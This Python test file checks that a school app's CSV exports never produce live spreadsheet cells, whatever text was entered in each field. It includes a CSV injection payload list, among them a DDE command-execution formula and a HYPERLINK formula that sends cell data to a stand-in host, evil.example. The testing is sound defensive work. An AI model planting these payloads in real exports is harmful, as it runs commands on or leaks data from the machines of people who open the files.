"""No cell of an export is live, whoever wrote what stands in it."""

from __future__ import annotations

import csv
from dataclasses import replace
from io import StringIO
from pathlib import Path

import pytest
from fakes.desk import NOW, win_at
from fakes.leaders import MemoryRecord
from fakes.memory import MemoryTable

from chalicelib.domain.school import School
from chalicelib.domain.win import PracticeUse
from chalicelib.ports.leaders import Done
from chalicelib.work.export import FIELDS, RECORD_FIELDS, as_csv, record_rows, rows_of

LIVE = tuple("=+-@|%\t\r\n")
PAYLOADS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "|calc",
        "%0A=1",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u200b=1",
        "\ufeff=1",
        "＝1",  # noqa: RUF001
    ),
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=IMPORTXML(CONCAT(A1),1)",
        '";=1+1',
        '","=1+1',
    ),
    *("＋1", "－1", "＠SUM(1)", "−1", "\u00a0=1", "\u2060=1"),  # noqa: RUF001
)
TEXTS = ("story", "tried", "happened", "takeaway", "quoted")
TAGS = ("goals", "signs", "groups")


@pytest.fixture(scope="module")
def payloads() -> list[str]:
    """Ours, and the published list where it is at hand."""
    listed = Path(__file__).parents[3] / "shared" / "data" / "bad_input" / "csv_injection_payloads.txt"
    more = listed.read_text("utf-8").splitlines() if listed.is_file() else []
    return [*PAYLOADS, *filter(str.strip, more)]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))


def is_live(cell: str) -> bool:
    return cell.lstrip("\u200b\ufeff\u2060\u00a0 ").startswith(LIVE) or cell.startswith(LIVE)


def test_no_payload_in_any_field_of_a_win_is_a_live_cell(sample_school: School, payloads: list[str]) -> None:
    table = MemoryTable()
    for payload in payloads:
        win = win_at(sample_school)
        author = win.author.model_copy(update={"mode": "named", "name": payload})
        told = dict.fromkeys((*TEXTS, "team", "link"), payload) | dict.fromkeys(TAGS, (payload, payload))
        practices = (PracticeUse.model_construct(id=payload, level=None),)
        table.save_win(win.model_copy(update={**told, "author": author, "practices": practices}), None)
    header, *rows = cells(as_csv(rows_of(table, table.weeks())))
    assert header == list(FIELDS)
    assert len(rows) == len(payloads)
    assert all(len(row) == len(header) for row in rows)
    assert not [cell for row in rows for cell in row if is_live(cell)]
    held = {row[header.index("story")].removeprefix("'") for row in rows}
    assert held == set(payloads)


def test_no_payload_in_the_record_is_a_live_cell(payloads: list[str]) -> None:
    record = MemoryRecord()
    line = Done(NOW, "dana@maplerow.example", "exported", "csv all")
    for payload in payloads:
        record.add_done(replace(line, who=payload, what=payload, about=payload))
    header, *rows = cells(as_csv(record_rows(record, ""), RECORD_FIELDS))
    assert header == list(RECORD_FIELDS)
    assert len(rows) == len(payloads)
    assert not [cell for row in rows for cell in row if is_live(cell)]
